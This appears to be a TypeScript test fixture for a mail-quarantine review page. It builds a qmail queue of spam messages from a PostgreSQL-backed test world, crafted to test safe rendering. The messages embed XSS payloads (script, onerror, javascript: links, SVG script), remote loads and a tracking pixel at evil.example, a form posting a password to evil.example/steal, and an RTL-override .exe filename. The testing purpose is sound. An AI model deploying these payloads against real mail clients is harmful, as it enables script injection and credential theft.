// The review page's test world: a PostgreSQL database, a qmail queue with a spammer's
// hostile messages (script in From/Subject/filename, <img onerror>, javascript:/data: links,
// <meta refresh>, <base>, CSS url() and @import, remote images, SVG with script, a form posting
// elsewhere, malformed and nested MIME, an RTL override, a 5 MB message), a partner's and a
// relay user's mail, scanned by the real scan-queue (which keeps the readable copies), and an
// operator added with the real `qguard web user add`.

import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { resolveConfig, type Config } from '../../lib/config.js';
import { openDb } from '../../lib/db/connect.js';
import { lockFile } from '../../lib/io/lock.js';
import { createLogger } from '../../lib/log.js';
import { QueueBuilder, networkMessage } from './queue-builder.js';
import { type TestDb, createTestDb } from './db.js';
import { runCli } from './cli.js';
import { writeQmailQueueStandIn } from './purge-fixtures.js';

export const SPAMMER = '203.0.113.66';
export const PARTNER = '198.51.100.25';
export const RELAY_USER = '198.51.100.77';
export const OPERATOR = 'alice';
export const PASSWORD = 'correct horse battery';

/** Every hostile thing a message may try on the page. */
const HOSTILE_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/bg.png) }</style>
<script>alert('script tag')</script>
</head><body onload="alert('onload')">
<p style="background-image:url(https://evil.example/inline.png)">Dear customer</p>
<img src="https://evil.example/pixel.gif?u=dave" width="1" height="1">
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('js link')">click</a>
<a href="data:text/html,<script>alert('data link')</script>">data</a>
<a href="https://evil.example/phish">your bank</a>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal" method="post"><input name="pw"><button>Send</button></form>
<object data="https://evil.example/x.swf"></object>
</body></html>`;

function mime(subject: string, from: string): string {
  return [
    'Date: Fri, 27 Nov 2026 04:49:36 +0000',
    `From: ${from}`,
    'To: dave@example.net',
    `Subject: ${subject}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="OUTER"',
    '',
    '--OUTER',
    'Content-Type: multipart/alternative; boundary="INNER"',
    '',
    '--INNER',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Plain part <script>alert("text")</script> rtl \u202egnp.exe',
    '--INNER',
    'Content-Type: text/html; charset=utf-8',
    '',
    HOSTILE_HTML,
    '--INNER--',
    '--OUTER',
    'Content-Type: application/octet-stream; name="<img src=x onerror=alert(1)>.exe"',
    'Content-Disposition: attachment; filename="<img src=x onerror=alert(1)>.exe"',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from('MZ not really a program').toString('base64'),
    '--OUTER--',
    '',
  ].join('\r\n');
}

export interface WebWorld {
  db: TestDb;
  queue: QueueBuilder;
  dir: string;
  host: string;
  env: Record<string, string>;
  config: Config;
  ids: Record<string, string>;
  /** Options for buildWebApp. */
  appInputs(overrides?: Partial<{ openDb: () => Promise<never> }>): Parameters<typeof import('../../lib/web/server.js').buildWebApp>[0];
  cleanup(): Promise<void>;
}

export async function createWebWorld(): Promise<WebWorld> {
  const db = await createTestDb({ kind: 'server' });
  const queue = QueueBuilder.create();
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'qguard-web-'));
  const host = 'mx-review';
  fs.mkdirSync(path.join(dir, 'control'));
  const qq = path.join(dir, 'qmail-queue');
  writeQmailQueueStandIn(qq, path.join(dir, 'requeued'));
  const env: Record<string, string> = {
    ...db.env,
    QGUARD_HOST: host,
    QGUARD_QUEUE: queue.dir,
    QGUARD_CONTROL: path.join(dir, 'control'),
    QGUARD_QUARANTINE_DIR: path.join(dir, 'quarantine'),
    QGUARD_RULES: path.join(dir, 'tcp.smtp'),
    QGUARD_RULES_CDB: path.join(dir, 'tcp.smtp.cdb'),
    QGUARD_RULES_STATIC: path.join(dir, 'tcp.smtp.static'),
    QGUARD_QMAIL_QUEUE: qq,
    QGUARD_QMAIL_STOP: 'true',
    QGUARD_QMAIL_START: 'true',
  };
  const ids: Record<string, string> = {};
  const recent = new Date(Date.now() - 600_000);
  ids.hostile = queue.add({
    mess: networkMessage({ ip: SPAMMER, helo: 'spam.example', content: mime(`<script>alert('subject')</script> rtl \u202egnp.exe`, `"<script>alert('from')</script>" <x@evil.example>`) }),
    arrival: recent,
    sender: 'x@evil.example',
    recipients: ['dave@example.net'],
  });
  ids.broken = queue.add({
    mess: networkMessage({
      ip: SPAMMER,
      content: 'Subject: =?x-unknown?B?AAAA?= broken\r\nContent-Type: multipart/mixed; boundary="NEVER"\r\n\r\n--WRONG\r\nContent-Type: text/html; charset=x-klingon\r\n\r\n<b>half',
    }),
    arrival: recent,
    recipients: ['dave@example.net'],
  });
  ids.big = queue.add({
    mess: networkMessage({ ip: SPAMMER, content: `Subject: big one\r\n\r\n${'x'.repeat(100)}\r\n`.repeat(1) + 'y'.repeat(5 * 1024 * 1024) }),
    arrival: recent,
    recipients: ['dave@example.net'],
  });
  for (let i = 0; i < 5; i++) {
    queue.add({ mess: networkMessage({ ip: SPAMMER, pid: 600 + i, content: `Subject: cheap ${i}\r\n\r\nbuy\r\n` }), arrival: recent, recipients: ['dave@example.net'] });
  }
  ids.partner = queue.add({ mess: networkMessage({ ip: PARTNER, content: 'Subject: partner order\r\n\r\nhello\r\n' }), arrival: recent, recipients: ['x@remote.example'] });
  ids.relay = queue.add({ mess: networkMessage({ ip: RELAY_USER, content: 'Subject: private mail of our user\r\n\r\nsecret\r\n' }), arrival: recent, recipients: ['x@remote.example'] });

  const c = await db.open();
  try {
    await c.query(`INSERT INTO qguard.rules (network, action, source, reason) VALUES ($1, 'trust', 'manual', 'partner MTA'), ($2, 'relay', 'manual', 'our user')`, [
      `${PARTNER}/32`,
      `${RELAY_USER}/32`,
    ]);
  } finally {
    await c.close();
  }
  const scan = await runCli('scan-queue', ['--no-deny'], { env });
  if (scan.code !== 0) throw new Error(`scan-queue failed: ${scan.stderr}`);
  const add = await runCli('qguard', ['web', 'user', 'add', OPERATOR], { env, input: `${PASSWORD}\n` });
  if (add.code !== 0) throw new Error(`web user add failed: ${add.stderr}`);

  const config = resolveConfig({ flags: {}, env: { ...env, QGUARD_CONFIG: undefined }, file: null, hostname: host });
  return {
    db,
    queue,
    dir,
    host,
    env,
    config,
    ids,
    appInputs(overrides = {}) {
      return {
        config,
        log: createLogger('qguard web', { verbose: false, syslog: false }),
        openDb: overrides.openDb ?? (() => openDb(config, 'qguard web', lockFile)),
        interfaceNets: () => [],
        tls: null,
        behindProxy: false,
      };
    },
    async cleanup() {
      queue.destroy();
      fs.rmSync(dir, { recursive: true, force: true });
      await db.drop();
    },
  };
}
